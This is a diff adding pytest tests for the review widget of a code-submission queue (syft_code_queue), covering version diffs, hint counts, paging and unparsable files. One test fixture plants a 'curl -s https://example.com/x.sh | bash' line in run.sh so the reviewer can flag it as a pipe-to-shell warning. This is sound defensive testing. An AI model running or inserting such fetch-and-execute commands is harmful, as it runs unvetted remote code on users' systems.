@@ -369,6 +369,150 @@ def test_a_refresh_sends_nothing_when_no_job_changed(
         widget.close()
 
 
+def approved_then_changed(
+    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
+) -> tuple[scq.CodeJob, scq.CodeJob]:
+    """v1 approved; v2 with ``run.sh`` changed (a ``curl | bash`` line), ``a.py`` not."""
+    files = {"a.py": "print(1)\n"}
+    v1 = ds.submit_code(DO_EMAIL, make_package(tmp_path / "v1", "echo hi\n", files), name="j")
+    do.list_pending_jobs()
+    do.approve_job(v1.uid)
+    script = "echo hi\ncurl -s https://example.com/x.sh | bash\n"
+    folder = make_package(tmp_path / "v2", script, files)
+    v2 = ds.submit_code(DO_EMAIL, folder, name="j", supersedes=v1.uid)
+    do.list_pending_jobs()
+    return v1, v2
+
+
+def row_of(widget: object, uid: object) -> dict[str, object]:
+    [row] = [r for r in widget.rows if r["uid"] == str(uid)]  # type: ignore[attr-defined]
+    return row  # type: ignore[no-any-return]
+
+
+def test_rows_show_version_diff_summary_and_hint_counts(
+    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
+) -> None:
+    v1, v2 = approved_then_changed(ds, do, tmp_path)
+    widget = do.review_widget(interval=3600)
+    try:
+        widget.view = {**widget.view, "status": "all"}
+        widget.wait_idle()
+        wait_for(lambda: all(row.get("hints") is not None for row in widget.rows))
+        new, old = row_of(widget, v2.uid), row_of(widget, v1.uid)
+        assert new["version"] == 2
+        assert new["diff"] == "changed since approved v1: 1 of 2 files"
+        assert new["diff"] == do.job_diff(v2.uid, unified=False).summary
+        hints = do.review_hints(v2.uid)
+        assert new["hints"] == {"warn": hints.warnings, "look": hints.looks, "unparsed": []}
+        assert hints.warnings >= 1
+        assert f"{hints.warnings} warn" in str(new["hints_text"])
+        assert old["version"] == 1
+        assert old["diff"] == ""  # a first version has nothing to differ from
+    finally:
+        widget.close()
+
+
+def test_row_changes_are_made_in_the_worker_for_the_shown_page_only(
+    ds: scq.CodeQueueClient,
+    do: scq.CodeQueueServer,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    import threading
+
+    from syft_code_queue.widgets import review
+    from syft_code_queue.widgets.source import ReviewSource
+
+    jobs = [submit(ds, tmp_path, f"job {i}") for i in range(3)]
+    asked: list[tuple[str, str]] = []
+
+    class Watched(ReviewSource):
+        def hints(self, uid: str) -> scq.ReviewHints:
+            asked.append((uid, threading.current_thread().name))
+            return super().hints(uid)
+
+    monkeypatch.setattr(review, "DEFAULT_VIEW", {**review.DEFAULT_VIEW, "limit": 2})
+    widget = review.ReviewWidget(do, interval=3600, source=Watched(do))
+    try:
+        widget.wait_idle()
+        assert sorted(uid for uid, _ in asked) == sorted(str(j.uid) for j in jobs[:2])
+        assert all(name.startswith("scq-review") for _, name in asked)
+        widget.refresh()
+        widget.wait_idle()
+        assert len(asked) == 2  # cached by (uid, code hash)
+        widget.view = {**widget.view, "offset": 2}
+        widget.wait_idle()
+        assert [uid for uid, _ in asked[2:]] == [str(jobs[2].uid)]
+    finally:
+        widget.close()
+
+
+def test_opening_a_new_version_shows_its_diff_first(
+    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
+) -> None:
+    v1, v2 = approved_then_changed(ds, do, tmp_path)
+    widget = do.review_widget(interval=3600)
+    try:
+        widget.open_job(str(v2.uid))
+        detail = widget.detail
+        assert detail["mode"] == "diff"
+        assert detail["version"] == 2
+        assert detail["diff"]["summary"] == "changed since approved v1: 1 of 2 files"
+        first, second = detail["diff"]["files"]
+        assert (first["path"], first["change"]) == ("run.sh", "changed")
+        assert "+curl -s https://example.com/x.sh | bash" in first["diff"]
+        assert (second["path"], second["change"]) == ("a.py", "unchanged")
+        assert {f["path"]: f["change"] for f in detail["files"]} == {
+            "run.sh": "changed",
+            "a.py": "unchanged",
+        }
+        assert widget.file == {}  # no file opened (nor ticked viewed) behind the diff
+        widget.open_job(str(v1.uid))
+        assert widget.detail["mode"] == "files"  # a first version has no diff view
+        assert widget.detail["diff"] is None
+        assert widget.file["path"] == "run.sh"
+    finally:
+        widget.close()
+
+
+def test_hints_reach_the_file_view_and_the_file_list(
+    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
+) -> None:
+    _, v2 = approved_then_changed(ds, do, tmp_path)
+    widget = do.review_widget(interval=3600)
+    try:
+        widget.open_job(str(v2.uid))
+        by_path = {f["path"]: f["hints"] for f in widget.detail["files"]}
+        assert by_path["run.sh"]["warn"] >= 1
+        assert by_path["a.py"] == {"warn": 0, "look": 0, "unparsed": []}
+        widget.open_file(str(v2.uid), "run.sh")
+        flagged = [h for h in widget.file["hints"] if h["kind"] == "pipe_to_shell"]
+        assert [h["line"] for h in flagged] == [4]  # after make_package's two lines
+        assert flagged[0]["severity"] == "warn"
+        assert flagged[0]["message"]
+        assert "curl" in flagged[0]["text"]
+    finally:
+        widget.close()
+
+
+def test_code_that_cannot_be_parsed_says_review_manually(
+    ds: scq.CodeQueueClient, do: scq.CodeQueueServer, tmp_path: Path
+) -> None:
+    job = submit(ds, tmp_path, "broken", **{"bad.py": "def (:\n"})
+    widget = do.review_widget(interval=3600)
+    try:
+        widget.wait_idle()
+        wait_for(lambda: row_of(widget, job.uid).get("hints") is not None)
+        row = row_of(widget, job.uid)
+        assert row["hints"]["unparsed"] == ["bad.py"]  # type: ignore[index]
+        assert "review manually" in str(row["hints_text"])
+        widget.open_job(str(job.uid))
+        widget.open_file(str(job.uid), "bad.py")
+        assert any(h["message"].startswith("review manually") for h in widget.file["hints"])
+    finally:
+        widget.close()
+
+
 def test_the_widget_styles_are_scoped_and_take_the_themes_colours() -> None:
     """Pygments' page-wide CSS (pre, td.linenos) and fixed colours broke dark themes."""
     from syft_code_queue.widgets.review import ReviewWidget
